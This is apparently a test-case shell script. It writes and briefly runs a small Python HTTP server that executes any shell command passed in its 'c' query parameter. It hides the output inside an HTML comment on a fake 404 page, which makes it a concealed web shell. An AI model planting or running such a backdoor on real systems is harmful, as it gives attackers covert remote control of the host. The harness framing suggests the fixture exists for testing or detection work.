#!/bin/sh
. /opt/case/case.sh

cat >/tmp/app.py <<'END'
import http.server, subprocess, urllib.parse as u
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(s):
        c = u.parse_qs(u.urlparse(s.path).query).get("c", [""])[0]
        o = subprocess.run(c, shell=True, capture_output=True).stdout if c else b""
        s.send_response(404); s.end_headers(); s.wfile.write(b"<!-- " + o + b" -->")
http.server.HTTPServer(("", 8000), H).serve_forever()
END
python3 /tmp/app.py 2>/dev/null & p=$!
wait_for /tmp/reached; kill $p
took_place
